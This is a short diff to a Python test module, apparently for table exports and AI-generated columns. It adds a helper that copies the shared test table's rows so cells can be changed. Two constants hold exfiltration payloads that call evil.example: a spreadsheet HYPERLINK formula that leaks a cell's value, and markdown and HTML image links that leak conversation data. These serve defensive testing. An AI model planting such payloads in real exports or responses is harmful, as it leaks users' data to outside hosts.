@@ -18,11 +18,18 @@ from starlette.testclient import TestClient
 from backend.ai_columns.schemas import AiColumn
 from backend.db.models import Conversation, Report
 from backend.db.session import Database
-from tests.api.test_exports import build, store, table_body, user_id
+from tests.api.test_exports import build, store, user_id
+from tests.api.test_exports import table_body as shared_body
 from tests.fakes.anthropic_server import FakeAnthropic, Script
 from tests.fakes.fake_page import chat
 
 pytestmark = pytest.mark.usefixtures("test_registry")
+
+
+def table_body(**extra: Any) -> dict[str, Any]:
+    """test_exports' table, its rows copied: these tests change cells."""
+    body = shared_body(**extra)
+    return {**body, "rows": [dict(row) for row in body["rows"]]}
 
 HOSTILE = '=HYPERLINK("https://evil.example/?leak="&B2,"Open")'
 LEAK = "![](http://evil.example/leak?conv=1) and ![logo](https://cdn.example/x.png) <img src=http://evil.example/i>"
